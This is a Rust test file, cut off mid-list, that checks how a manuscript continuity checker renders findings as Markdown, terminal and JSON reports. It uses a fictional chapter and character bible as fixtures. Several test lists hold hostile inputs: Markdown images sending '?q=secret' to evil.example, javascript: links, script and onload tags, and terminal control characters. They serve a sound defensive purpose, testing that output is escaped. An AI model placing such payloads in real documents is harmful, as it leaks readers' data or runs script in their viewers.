//! Tests of the reports: each form of output once as a snapshot, and hostile text through all of them.

#[path = "../../tests/live_parts.rs"]
mod live_parts;

use super::*;
use crate::finding::{Dismissal, Severity, Source, Standing, identity};
use crate::manuscript::{Encoding, StoryPoint};
use crate::text::{LineColumn, LineIndex, Span};
use insta::assert_snapshot;
use live_parts::live_parts;
use std::sync::Arc;

const CHAPTER: &str = "# The Salt Door\n\nMara’s green eyes were on the door.\n\nShe waited.\n";
const BIBLE: &str = "---\nname: Mara Vance\nfacts:\n  eyes: blue\n---\n";

fn path(text: &str) -> SourcePath {
    SourcePath::new(text)
}

fn evidence(file: &str, source: &str, quote: &str, label: &str) -> Evidence {
    let start = source.find(quote).unwrap();
    Evidence::in_file(&path(file), (source, Encoding::Utf8), &LineIndex::new(source), Span::new(start, start + quote.len()), label)
}

fn finding(rule: &str, severity: Severity, message: &str, evidence: Vec<Evidence>) -> Finding {
    let subjects = vec!["Mara Vance".to_string()];
    Finding {
        id: identity::of_words(rule, &subjects, &evidence),
        script: rule.to_string(),
        rule: rule.to_string(),
        severity,
        message: message.to_string(),
        subjects,
        evidence,
        model_note: None,
        point: Some(StoryPoint { book: 0, chapter: 2, scene: 0 }),
        confidence: None,
        standing: Standing::Open,
        sources: BTreeSet::from([Source::Patterns, Source::Bible]),
        reopened_from: None,
    }
}

fn green_eyes() -> Finding {
    let quotes = vec![
        evidence("book-1/ch-03.md", CHAPTER, "green eyes", "this chapter says"),
        evidence("bible/mara.md", BIBLE, "eyes: blue", "the bible says"),
    ];
    let message = "Mara Vance’s eyes are green here and blue in the bible.";
    Finding {
        model_note: Some("These are Mara’s own eyes.".to_string()),
        ..finding("changed-appearance", Severity::Contradiction, message, quotes)
    }
}

fn waited() -> Finding {
    finding("repeated-word", Severity::Note, "“waited” again.", vec![evidence("book-1/ch-03.md", CHAPTER, "She waited.", "")])
}

fn result(script: &str, scope: Scope, findings: Vec<Finding>) -> ScriptResult {
    ScriptResult {
        script: script.to_string(),
        report: "continuity".to_string(),
        scope,
        outcome: Outcome::Checked,
        findings,
        notes: Vec::new(),
        drafts: Vec::new(),
        awaits: None,
        coverage: Coverage { scenes: 1, words: 8, questions: 4, answered_from_cache: 0, not_read: Vec::new() },
        problems: Vec::new(),
    }
}

fn in_chapter(findings: Vec<Finding>) -> ScriptResult {
    result("changed-appearance", Scope::Chapter(path("book-1/ch-03.md")), findings)
}

fn not_checked(mut result: ScriptResult, reason: &str) -> ScriptResult {
    result.outcome = Outcome::NotChecked(reason.to_string());
    result.coverage = Coverage::default();
    result
}

fn contents() -> Contents {
    let chapter = |number: usize, title: &str| ChapterEntry {
        path: path(&format!("book-1/ch-0{number}.md")),
        title: title.to_string(),
        number,
        scenes: 1,
        words: 8,
    };
    let chapters = vec![chapter(2, "The Key"), chapter(3, "The Salt Door")];
    let books = vec![BookEntry { folder: "book-1".to_string(), title: "Paper Ice".to_string(), chapters }];
    Contents { title: "The Ice Series".to_string(), books }
}

fn shipped() -> Templates {
    let (templates, problems) = Templates::new(&BTreeMap::new());
    assert_eq!(problems, []);
    templates
}

fn render(results: &[ScriptResult]) -> Vec<markdown::ReportFile> {
    let (files, problems) = markdown::files(results, &contents(), &shipped());
    assert_eq!(problems, []);
    files
}

fn one_report(results: &[ScriptResult]) -> String {
    let files = render(results);
    assert_eq!(files.len(), 1, "{files:?}");
    format!("{}\n\n{}", files[0].path, files[0].text)
}

#[test]
fn a_clean_chapter() {
    assert_snapshot!(one_report(&[in_chapter(vec![])]), @r#"
    book-1/ch-03.continuity.md

    # The Salt Door: continuity

    **Checked: nothing found.**

    ## What was read

    - changed-appearance read 1 of 1 scene and 8 of 8 words.
    "#);
}

#[test]
fn a_chapter_with_findings() {
    let mut other = result("repeated-word", Scope::Scene { file: path("book-1/ch-03.md"), number: 1 }, vec![waited()]);
    other.coverage.not_read = vec!["scene 2: it is marked as a letter".to_string()];
    assert_snapshot!(one_report(&[other, in_chapter(vec![green_eyes()])]), @r#"
    book-1/ch-03.continuity.md

    # The Salt Door: continuity

    **2 findings: 1 contradiction, 1 note.**

    ## Findings

    ### Mara Vance’s eyes are green here and blue in the bible.

    contradiction · changed-appearance · by code alone · 56045f304c

    book-1/ch-03.md:3:8 (this chapter says)

    > green eyes

    bible/mara.md:4:3 (the bible says)

    > eyes: blue

    The model’s words, no evidence: These are Mara’s own eyes.

    ## Also noted

    ### “waited” again.

    note · repeated-word · by code alone · 452d3c0b29

    book-1/ch-03.md:5:1

    > She waited.

    ## What was read

    - changed-appearance read 1 of 1 scene and 8 of 8 words.
    - repeated-word read 1 of 1 scene and 8 of 8 words.
    - Not read: scene 2: it is marked as a letter
    "#);
}

#[test]
fn a_chapter_that_was_not_checked() {
    assert_snapshot!(one_report(&[not_checked(in_chapter(vec![]), "the model file is missing")]), @r#"
    book-1/ch-03.continuity.md

    # The Salt Door: continuity

    **Not checked: the model file is missing.**

    ## What was read

    - changed-appearance read 0 of 1 scene and 0 of 8 words.
    "#);
}

#[test]
fn a_chapter_checked_in_part_is_not_called_clean() {
    let scene = |number| result("changed-appearance", Scope::Scene { file: path("book-1/ch-03.md"), number }, vec![]);
    let report = one_report(&[not_checked(scene(2), "it does not fit the model’s context"), scene(1)]);
    assert!(report.contains("**Nothing found in the part that was checked.**"), "{report}");
    assert!(report.contains("**Not checked by changed-appearance (scene 2): it does not fit the model’s context.**"), "{report}");
    assert!(!report.contains("Checked: nothing found"), "{report}");
}

#[test]
fn a_summary() {
    let mut summary = in_chapter(vec![]);
    summary.script = "summaries".to_string();
    summary.report = "summary".to_string();
    let passage = "Mara’s green eyes were on the door.\n\nShe waited.\n";
    let anchor = evidence("book-1/ch-03.md", CHAPTER, passage, "");
    let line = NoteLine { text: "Mara watches the door.".to_string(), is_model_text: true, evidence: vec![anchor] };
    summary.notes = vec![Note { chapter: None, heading: "Summary".to_string(), lines: vec![line], is_followed: false }];
    assert_snapshot!(one_report(&[summary]), @r#"
    book-1/ch-03.summary.md

    # The Salt Door: summary

    **Checked: no findings.**

    ## Summary

    The model’s words, no evidence:

    - Mara watches the door. (lines 3–5)

    ## What was read

    - summaries read 1 of 1 scene and 8 of 8 words.
    "#);
}

#[test]
fn a_books_findings_stand_in_its_report_and_in_the_chapters() {
    let book = result("changed-appearance", Scope::Book("book-1".to_string()), vec![green_eyes()]);
    let files = render(&[book]);
    let paths: Vec<&str> = files.iter().map(|file| file.path.as_str()).collect();
    assert_eq!(paths, ["book-1/ch-03.continuity.md", "book-1/book.continuity.md"]);
    assert!(files[0].text.contains("blue in the bible"));
    assert_snapshot!(files[1].text, @r#"
    # Paper Ice: continuity

    **1 finding: 1 contradiction.**

    ## Findings

    ### Mara Vance’s eyes are green here and blue in the bible.

    contradiction · changed-appearance · by code alone · 56045f304c

    book-1/ch-03.md:3:8 (this chapter says)

    > green eyes

    bible/mara.md:4:3 (the bible says)

    > eyes: blue

    The model’s words, no evidence: These are Mara’s own eyes.

    ## What was read

    - changed-appearance read 1 of 2 scenes and 8 of 16 words.
    "#);
}

#[test]
fn reports_do_not_depend_on_the_order_of_jobs_or_on_the_cache() {
    let series = result("who-knows-what", Scope::Series, vec![green_eyes()]);
    let results = [in_chapter(vec![green_eyes(), waited()]), series, result("other", Scope::Book("book-1".to_string()), vec![waited()])];
    let mut again = results.clone();
    again.reverse();
    for result in &mut again {
        result.coverage.answered_from_cache = 4;
    }
    assert_eq!(render(&results), render(&again));
}

#[test]
fn report_names_never_collide_or_leave_their_folder() {
    let mut contents = contents();
    let name = |file: &str, word: &str, contents: &Contents| markdown::path_of(&Scope::Chapter(path(file)), word, contents).to_string();
    assert_eq!(name("book-1/ch-03.md", "continuity", &contents), "book-1/ch-03.continuity.md");
    assert_eq!(name("book-1/ch-03.md", "../../Etc/x", &contents), "book-1/ch-03.etc-x.md");
    assert_eq!(name("book-1/book.md", "bible", &contents), "book-1/book.md.bible.md");
    contents.books[0].chapters[0].path = path("book-1/CH-03.txt");
    assert_eq!(name("book-1/ch-03.md", "bible", &contents), "book-1/ch-03.md.bible.md");
    assert_eq!(markdown::path_of(&Scope::Book(String::new()), "bible", &contents).as_str(), "book.bible.md");
    assert_eq!(markdown::path_of(&Scope::Series, "bible", &contents).as_str(), "series.bible.md");
}

#[test]
fn a_long_quote_loses_its_middle_in_markdown_only() {
    let source = format!("It began{} and ended.", " again".repeat(200));
    let long = finding("long", Severity::Query, "Long.", vec![evidence("book-1/ch-03.md", &source, &source, "")]);
    let report = one_report(&[in_chapter(vec![long.clone()])]);
    let quote = report.lines().find(|line| line.starts_with("> ")).unwrap();
    assert!(quote.chars().count() <= 302 && quote.contains(" … ") && quote.ends_with("and ended."), "{quote}");
    let summary = RunSummary { results: vec![in_chapter(vec![long])], ..RunSummary::default() };
    assert!(json::render(&summary).contains(&source));
}

#[test]
fn a_thousand_findings_fit_the_limit_on_templates() {
    let numbered = |number: usize| Finding { id: number.to_string(), ..green_eyes() };
    let report = one_report(&[in_chapter((0..1_000).map(numbered).collect())]);
    assert!(report.contains("**1,000 findings: 1,000 contradictions.**"));
}

fn sources(file: &SourcePath) -> Option<Arc<str>> {
    match file.as_str() {
        "book-1/ch-03.md" => Some(CHAPTER.into()),
        "bible/mara.md" => Some(BIBLE.into()),
        _ => None,
    }
}

#[test]
fn the_terminal_shows_both_places() {
    assert_snapshot!(terminal::findings(&[green_eyes(), waited()], &sources, false), @r#"
    contradiction[changed-appearance]: Mara Vance’s eyes are green here and blue in the bible.
     --> book-1/ch-03.md:3:8
      |
    3 | Mara’s green eyes were on the door.
      |        ^^^^^^^^^^ this chapter says
      |
     ::: bible/mara.md:4:3
      |
    4 |   eyes: blue
      |   ---------- the bible says
      |
      = the model’s words: These are Mara’s own eyes.
      = id: 56045f304c, by code alone

    note[repeated-word]: “waited” again.
     --> book-1/ch-03.md:5:1
      |
    5 | She waited.
      | ^^^^^^^^^^^
      |
      = id: 452d3c0b29, by code alone
    "#);
    assert!(terminal::findings(&[green_eyes()], &sources, true).contains("\u{1b}["));
}

#[test]
fn the_terminal_cuts_a_long_line_around_the_quote() {
    let source = format!("{}her green eyes and {}", "and the snow fell ".repeat(140), "the ice held ".repeat(190));
    assert!(source.len() >= 5_000);
    let long = finding("long", Severity::Query, "Whose?", vec![evidence("book-1/ch-03.md", &source, "green eyes", "these")]);
    let text: Arc<str> = source.into();
    assert_snapshot!(terminal::findings(&[long], &|_| Some(text.clone()), false), @r#"
    query[long]: Whose?
     --> book-1/ch-03.md:1:2525
      |
    1 | … the snow fell and the snow fell her green eyes and the ice held the ice held the ice held the …
      |                                       ^^^^^^^^^^ these
      |
      = id: 15f4e0f054, by code alone
    "#);
}

#[test]
fn the_terminal_survives_quotes_over_lines_changed_sources_and_wide_letters() {
    let over_lines = "green eyes were on the door.\n\nShe waited";
    let several = finding("lines", Severity::Query, "Two paragraphs.", vec![evidence("book-1/ch-03.md", CHAPTER, over_lines, "")]);
    let gone = finding("gone", Severity::Query, "Gone.", vec![evidence("nowhere.md", "some words", "words", "")]);
    let wide = "雪が降る。".repeat(300);
    let letters = finding("wide", Severity::Query, "Wide.", vec![evidence("wide.md", &wide, &wide, "")]);
    assert_snapshot!(terminal::findings(&[several, gone, letters], &sources, false), @r#"
    query[lines]: Two paragraphs.
     --> book-1/ch-03.md:3:8
      |
    3 | Mara’s green eyes were on the door.  She waited.
      |        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
      |
      = id: ed8465a649, by code alone

    query[gone]: Gone.
     --> nowhere.md:1:6
      |
    1 | words
      | ^^^^^
      |
      = id: 9ac83c6f78, by code alone

    query[wide]: Wide.
     --> wide.md:1:1
      |
    1 | 雪が降る。雪が降る。雪が降る。雪が降る。雪が降る … が降る。雪が降る。雪が降る。雪が降る。雪が降る。
      | ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
      |
      = id: 2168349f44, by code alone
    "#);
    for start in 0..12 {
        let empty = Evidence { span: Span::new(start, start), quote: String::new(), ..evidence("book-1/ch-03.md", CHAPTER, "door", "") };
        let shown = terminal::findings(&[finding("empty", Severity::Note, "", vec![empty])], &sources, false);
        assert!(!shown.contains('\u{f8fe}'), "{shown}");
    }
}

fn summary() -> RunSummary {
    let model = ModelLine {
        name: "Qwen2.5 1.5B".to_string(),
        file_hash: "0123456789abcdef".to_string(),
        quantisation: "Q4_K_M".to_string(),
        context_tokens: 8192,
        settings: "greedy, seed 0".to_string(),
        other_readers: vec![("Qwen2.5 0.5B".to_string(), 0.5)],
    };
    let mut found = in_chapter(vec![green_eyes()]);
    found.coverage.answered_from_cache = 3;
    let skipped = not_checked(result("who-knows-what", Scope::Series, vec![]), "it crashed twice");
    RunSummary {
        changes: None,
        model: Some(model),
        work: Work {
            read: 3210,
            reused: 12_000,
            restored: 4_000,
            generated: 480,
            forced: 20,
            drafted: 60,
            accepted: 45,
            questions: 8,
            from_cache: 3,
            open_micros: 900_000,
            read_micros: 32_100_000,
            write_micros: 10_000_000,
            restore_micros: 120_000,
            questions_at_once: 16,
            ..Work::default()
        },
        seconds: 12.34,
        results: vec![found.clone(), skipped, found],
        problems: vec![Problem::new(ProblemKind::Note, "no bible was found").in_file(&path("bible"))],
        seal_gaps: None,
    }
}

#[test]
fn the_summary_says_what_was_done_and_what_it_cost() {
    assert_snapshot!(terminal::summary_lines(&summary()), @r#"
    3 checks: 0 clean, 2 with findings, 1 not checked.
    1 finding: 1 contradiction.
    Not checked: who-knows-what on the series: it crashed twice.
    Problem: bible: no bible was found
    8 questions, 3 answered from the cache.
    Tokens: 3,210 read, 12,000 reused (4,000 of them saved by an earlier run). Replies: 480 generated, 20 forced by their form, 60 drafted from the text and 45 of those right.
    Time: 12.3 s (opening the model 0.9 s; reading 32.1 s, 100 tokens a second; writing 10.0 s, 48 tokens a second; fetching what was saved 0.1 s).
    Model: Qwen2.5 1.5B, Q4_K_M, file 0123456789ab, 8,192 tokens of context, greedy, seed 0, up to 16 questions at once.
    With Qwen2.5 0.5B, which finds less, the model’s part would take about 1 min.
    "#);
}

#[test]
fn json_is_one_object_with_verbatim_quotes() {
    assert_snapshot!(json::render(&summary()), @r#"
    {
      "results": [
        {
          "script": "changed-appearance",
          "scope": "book-1/ch-03.md",
          "status": "findings",
          "coverage": {
            "scenes": 1,
            "words": 8,
            "questions": 4,
            "answered_from_cache": 3,
            "not_read": []
          }
        },
        {
          "script": "who-knows-what",
          "scope": "the series",
          "status": "not-checked",
          "reason": "it crashed twice",
          "coverage": {
            "scenes": 0,
            "words": 0,
            "questions": 0,
            "answered_from_cache": 0,
            "not_read": []
          }
        },
        {
          "script": "changed-appearance",
          "scope": "book-1/ch-03.md",
          "status": "findings",
          "coverage": {
            "scenes": 1,
            "words": 8,
            "questions": 4,
            "answered_from_cache": 3,
            "not_read": []
          }
        }
      ],
      "findings": [
        {
          "id": "56045f304c",
          "rule": "changed-appearance",
          "severity": "contradiction",
          "message": "Mara Vance’s eyes are green here and blue in the bible.",
          "subjects": [
            "Mara Vance"
          ],
          "evidence": [
            {
              "file": "book-1/ch-03.md",
              "quote": "green eyes",
              "start_byte": 26,
              "end_byte": 36,
              "line": 3,
              "column": 8,
              "label": "this chapter says"
            },
            {
              "file": "bible/mara.md",
              "quote": "eyes: blue",
              "start_byte": 30,
              "end_byte": 40,
              "line": 4,
              "column": 3,
              "label": "the bible says"
            }
          ],
          "script": "changed-appearance",
          "sources": [
            "patterns",
            "bible"
          ],
          "confidence": null,
          "note": "These are Mara’s own eyes."
        }
      ],
      "less_certain": [],
      "dismissed": [],
      "switched_off": 0,
      "since_last_run": null,
      "problems": [
        {
          "kind": "note",
          "message": "no bible was found",
          "file": "bible"
        }
      ],
      "sandbox": null,
      "model": {
        "name": "Qwen2.5 1.5B",
        "file_hash": "0123456789abcdef",
        "quantisation": "Q4_K_M",
        "context_tokens": 8192,
        "settings": "greedy, seed 0"
      },
      "tokens": {
        "read": 3210,
        "reused": 12000,
        "restored": 4000,
        "generated": 480,
        "forced": 20,
        "drafted": 60,
        "accepted": 45,
        "questions": 8,
        "from_cache": 3
      },
      "model_seconds": {
        "opening": 0.9,
        "reading": 32.1,
        "writing": 10.0,
        "restoring": 0.12
      },
      "seconds": 12.34
    }
    "#);
}

#[test]
fn notes_are_in_the_json_with_what_they_rest_on() {
    let mut summary = summary();
    let line = NoteLine { text: "Mara watches.".to_string(), is_model_text: true, evidence: green_eyes().evidence };
    summary.results[0].notes =
        vec![Note { chapter: Some(path("book-1/ch-03.md")), heading: "Summary".to_string(), lines: vec![line], is_followed: false }];
    let told: serde_json::Value = serde_json::from_str(&json::render(&summary)).unwrap();
    let note = &told["results"][0]["notes"][0];
    assert_eq!((&note["heading"], &note["chapter"]), (&"Summary".into(), &"book-1/ch-03.md".into()));
    assert_eq!((&note["lines"][0]["text"], &note["lines"][0]["is_model_text"]), (&"Mara watches.".into(), &true.into()));
    assert_eq!(note["lines"][0]["evidence"][0]["quote"], told["findings"][0]["evidence"][0]["quote"]);
    assert!(told["results"][1].get("notes").is_none());
}

#[test]
fn the_summary_names_the_graphics_card() {
    let mut summary = summary();
    summary.work.layers_on_gpu = 29;
    let lines = terminal::summary_lines(&summary);
    assert!(lines.contains("up to 16 questions at once, 29 layers on the graphics card.\n"), "{lines}");
}

#[test]
fn the_exit_status_tells_the_worst() {
    let mut summary = RunSummary { results: vec![in_chapter(vec![])], ..RunSummary::default() };
    assert_eq!(exit_status(&summary), 0);
    summary.results.push(in_chapter(vec![waited()]));
    assert_eq!(exit_status(&summary), 1);
    summary.results[0].problems.push(Problem::new(ProblemKind::NotChecked, "unreadable"));
    assert_eq!(exit_status(&summary), 3);
    summary.problems.push(Problem::new(ProblemKind::Configuration, "a wrong key"));
    assert_eq!(exit_status(&summary), 2);
}

#[test]
fn merging_keeps_every_place() {
    let mut elsewhere = green_eyes();
    elsewhere.evidence[0].span = Span::new(90, 100);
    elsewhere.model_note = None;
    let merged = merge_by_id([elsewhere, green_eyes()]);
    assert_eq!(merged.len(), 1);
    assert_eq!(merged[0].evidence.len(), 3);
    assert!(merged[0].model_note.is_some());
}

fn with_template(source: &str) -> (Templates, Vec<Problem>) {
    Templates::new(&BTreeMap::from([("templates/report.md.jinja".to_string(), source.to_string())]))
}

#[test]
fn a_template_of_the_author_is_used_and_escapes_by_itself() {
    let source =
        "{% macro m(x) %}<{{ x }}>{% endmacro %}\n{% autoescape false %}{{ title }}: {{ m(findings[0].message) }}{% endautoescape %}";
    let source = source.replace('<', "(").replace('>', ")");
    let (templates, problems) = with_template(&source);
    assert_eq!(problems, []);
    let mut hostile = green_eyes();
    hostile.message = "![x](http://e.vil)".to_string();
    let (files, problems) = markdown::files(&[in_chapter(vec![hostile])], &contents(), &templates);
    assert_eq!(problems, []);
    assert!(files[0].text.starts_with("The Salt Door: "), "{}", files[0].text);
    assert_harmless(&files[0].text);
}

#[test]
fn a_template_that_cannot_be_used_is_told_and_replaced() {
    let broken = [
        "line one\n{% for %}",
        "\n{{ title|safe }}",
        "\n{{ title.nothing.more }}",
        "\n{% for a in 'x' * 9999 %}{% for b in 'x' * 9999 %}{{ a }}{% endfor %}{% endfor %}",
        "\n![x]({{ '//evil.example' }}?{{ title }})",
        "\n<{{ 'img' }} src=x>",
        "[x]({{ 'http:' }}{{ '//evil.example' }})",
        "{% raw %}{{ ![x](y) }}{% endraw %}",
        "{% set shown %}{{ '![x](y)' }}{% endset %}{{ shown|replace('\\\\', '') }}",
        "```dataviewjs\nrequestUrl(dv.current().file.name)\n```",
        "~~~mermaid\nx\n~~~",
        "`= this.file.name` and `$= dv.view('x')`",
        "http:&#47;&#47;evil.example/{{ title }}",
        "http:\\/\\/evil.example/{{ title }}",
        "{{ title }}@evil.example",
        "$\\href{x}{y}$",
    ];
    let mut told = String::new();
    for source in broken {
        let (templates, mut problems) = with_template(source);
        let (files, later) = markdown::files(&[in_chapter(vec![])], &contents(), &templates);
        problems.extend(later);
        assert_eq!(problems.len(), 1, "{source}");
        assert_eq!(problems[0].kind, ProblemKind::Configuration);
        told += &format!("{}\n", problems[0]);
        assert!(files[0].text.contains("Checked: nothing found."));
    }
    assert_snapshot!(told, @r#"
    templates/report.md.jinja:2:1: this report template cannot be used: syntax error: unexpected end of block, expected in (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja:2:1: this report template cannot be used: unknown filter: filter safe is unknown (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja:2:1: this report template cannot be used: undefined value: `title.nothing` is undefined (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja:2:1: this report template cannot be used: it does more work than a report needs; look for a loop within a loop (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `![`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `<`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `](`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `![`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `![`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `````, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `~~~`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes ``=`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `&`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `\/`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `@`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `\href`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    "#);
}

/// Text that tries everything a Markdown viewer or a terminal might act on.
const HOSTILE: &[&str] = &[
    "![x](https://evil.example/?q=secret)",
    "[a](javascript:alert(1)) [b][r] ![c][r]\n\n[r]: http://evil.example",
    "<img src=http://evil.example/x> <script>alert(1)</script> <!-- c --> </details> <?php ?> <![CDATA[x]]>",
    "<http://evil.example> http://evil.example www.evil.example WWW.evil.example a@evil.example mailto:a@evil.example",
    "---\ntitle: x\n---\n+++\nx\n+++",
    "\u{202e}abc\u{2066}\u{200b}\u{1b}[31m\u{9b}31m\u{7}\u{8}\r\nx",
    "`code` ``` fence\n```html\n<b>\n``` ~~~ \\` \\",
    "[^1] and\n\n[^1]: http://evil.example",
    "| a | b |\n|---|---|\n| <b> | ![x](y) |",
    "$\\href{http://evil.example}{x}$ $$x$$ [[wiki]] ![[embed]] %%hidden%% ==mark== ^block #tag :smile:",
    "# heading\n===\n1. one\n- two\n+ three\n* four\n> quote\n    code\n\ttab",
    "&lt;img&gt; &#x3c;img&#x3e; &amp;lt;b&amp;gt;",
    ": definition\n~sub~ ^sup^ ~~strike~~ **bold** _em_ {#id .class} {{ title }} {% raw %}",
    "!",
    "\\",
    "",
    "[!note] x",
    "\u{f8fe}0\u{f8fe}:3:8 \u{e000} //evil.example",
];

/// Fails when a viewer could fetch, click or run something in a Markdown text.
fn assert_harmless(markdown: &str) {
    use pulldown_cmark::{Event, Options, Parser, Tag};
    let mut text = String::new();
    for event in Parser::new_ext(markdown, Options::all()) {
        match event {
            Event::Text(part) | Event::Code(part) => text.push_str(&part),
            Event::SoftBreak | Event::HardBreak | Event::End(_) => text.push('\n'),
            Event::Html(_) | Event::InlineHtml(_) | Event::InlineMath(_) | Event::DisplayMath(_) | Event::FootnoteReference(_) => {
                panic!("{event:?} in {markdown}")
            }
            Event::Start(
                ref tag @ (Tag::Link { .. }
                | Tag::Image { .. }
                | Tag::HtmlBlock
                | Tag::Table(_)
                | Tag::CodeBlock(_)
                | Tag::FootnoteDefinition(_)
                | Tag::MetadataBlock(_)
                | Tag::DefinitionList),
            ) => panic!("{tag:?} in {markdown}"),
            _ => {}
        }
    }
    let text = text.to_lowercase();
    for address in ["http://", "https://", "www.", "javascript:a", "mailto:a", "a@e", "//evil"] {
        assert!(!text.contains(address) && !markdown.to_lowercase().contains(address), "{address} in {markdown}");
    }
    assert!(!markdown.chars().any(|c| c != '\n' && c != '\u{2060}' && crate::text::escape::is_unsafe(c)), "{markdown:?}");
}

fn hostile_result(text: &str, scope: Scope) -> ScriptResult {
    let place = Evidence { label: text.to_string(), ..evidence("book-1/ch-03.md", CHAPTER, "door", "") };
    let elsewhere = Evidence { file: path(text), quote: text.to_string(), ..place.clone() };
    let mut hostile = finding(text, Severity::Query, text, vec![Evidence { quote: text.to_string(), ..place.clone() }, elsewhere.clone()]);
    hostile.id = text.to_string();
    hostile.subjects = vec![text.to_string()];
    hostile.model_note = Some(text.to_string());
    let line = |is_model_text| NoteLine { text: text.to_string(), is_model_text, evidence: vec![elsewhere.clone()] };
    hostile.reopened_from = Some(text.to_string());
    let dismissal = Dismissal { reason: Some(text.to_string()), file: path(text), place: LineColumn { line: 1, column: 1 } };
    let standing = |standing, id: &str| Finding { standing, id: format!("{id}{text}"), ..hostile.clone() };
    let mut findings =
        vec![standing(Standing::Dismissed(dismissal), "3"), standing(Standing::LessCertain, "4"), standing(Standing::Off, "5")];
    findings.push(Finding { severity: Severity::Note, id: format!("2{text}"), ..hostile.clone() });
    findings.push(hostile);
    let mut result = result(text, scope, findings);
    result.report = text.to_string();
    result.outcome = Outcome::NotChecked(text.to_string());
    result.notes = vec![Note { chapter: None, heading: text.to_string(), lines: vec![line(true), line(false)], is_followed: false }];
    result.coverage.not_read = vec![text.to_string()];
    result.problems = vec![Problem::new(ProblemKind::Note, text).in_file(&path(text)).advice(text)];
    result
}

#[test]
fn what_does_not_wait_for_the_author_stands_apart_at_the_end() {
    let dismissal =
        Dismissal { reason: Some("it is dyed".to_string()), file: path("book-1/ch-03.md"), place: LineColumn { line: 4, column: 1 } };
    let dismissed = Finding { standing: Standing::Dismissed(dismissal), ..green_eyes() };
    let unsure = Finding { standing: Standing::LessCertain, confidence: Some(0.416), ..waited() };
    assert_snapshot!(one_report(&[in_chapter(vec![dismissed.clone(), unsure.clone()])]), @r"
    book-1/ch-03.continuity.md

    # The Salt Door: continuity

    **Checked: nothing that waits for you; 1 dismissed, 1 less certain.**

    ## Less certain: 1

    - “waited” again. (book-1/ch-03.md:5, repeated-word, the model 41 % sure, 452d3c0b29)

    ## Dismissed: 1

    - Mara Vance’s eyes are green here and blue in the bible. (book-1/ch-03.md:3, changed-appearance, 56045f304c) by book-1/ch-03.md:4: it is dyed

    ## What was read

    - changed-appearance read 1 of 1 scene and 8 of 8 words.
    ");
    let summary = RunSummary { results: vec![in_chapter(vec![dismissed, unsure])], ..RunSummary::default() };
    assert_eq!((exit_status(&summary), summary.findings().len()), (0, 0));
    let lines = terminal::summary_lines(&summary);
    assert!(lines.contains("1 check: 1 clean, 0 with findings, 0 not checked.\nNot shown: 1 dismissed, 1 less certain.\n"), "{lines}");
}

#[test]
fn hostile_text_stays_text() {
    let mut contents = contents();
    for text in HOSTILE {
        contents.title = text.to_string();
        contents.books[0].title = text.to_string();
        contents.books[0].chapters[1].title = text.to_string();
        let scopes = [Scope::Chapter(path("book-1/ch-03.md")), Scope::Chapter(path(text)), Scope::Book(text.to_string()), Scope::Series];
        let results: Vec<ScriptResult> = scopes.into_iter().map(|scope| hostile_result(text, scope)).collect();
        let (files, problems) = markdown::files(&results, &contents, &shipped());
        assert_eq!(problems, []);
        assert!(files.len() >= 3);
        for file in files {
            assert_harmless(&file.text);
            assert!(file.text.starts_with("# "));
        }
        let summary = RunSummary { results, ..RunSummary::default() };
        let has_control = |shown: &str| shown.chars().any(|c| c != '\n' && crate::text::escape::is_unsafe(c));
        let shown = terminal::findings(&summary.findings(), &sources, false);
        assert!(!has_control(&shown) && !shown.contains('\u{f8fe}'), "{shown}");
        assert!(!has_control(&terminal::summary_lines(&summary)));
        let rendered = json::render(&summary);
        assert!(!has_control(&rendered));
        let parsed: serde_json::Value = serde_json::from_str(&rendered).unwrap();
        assert_eq!(parsed["findings"][0]["message"], **text);
    }
}

#[test]
fn results_travel_between_the_processes() {
    let summary = summary();
    let bytes = postcard::to_allocvec(&summary).unwrap();
    assert_eq!(postcard::from_bytes::<RunSummary>(&bytes).unwrap(), summary);
}

/// Pieces from which hostile text is put together; most do something only in company.
const PIECES: [&str; 72] = [
    "![",
    "[",
    "]",
    "](",
    ")",
    "]:",
    "][",
    "[^",
    "![[",
    "]]",
    "[[",
    "<",
    ">",
    "</",
    "<!--",
    "-->",
    "<?",
    "<![CDATA[",
    "<img src=",
    "<script>",
    "<svg/onload=",
    "http:",
    "https:",
    "//",
    "/",
    ":",
    "www",
    ".",
    "WWW.",
    "@",
    "mailto:",
    "xmpp:",
    "javascript:",
    "data:",
    "file:",
    "e.vil",
    "evil.example",
    "&lt;",
    "&#60;",
    "&#x3c;",
    "&colon;",
    "&amp;",
    "&",
    ";",
    "\\",
    "\\\\",
    "`",
    "```",
    "~~~",
    "$",
    "$$",
    "%%",
    "==",
    "---",
    "***",
    "+++",
    "#",
    "- ",
    "1. ",
    "1) ",
    "| ",
    ">",
    "^",
    "{",
    "{{",
    ":::",
    "\n",
    "\n\n",
    "\r\n    ",
    "\t",
    " ",
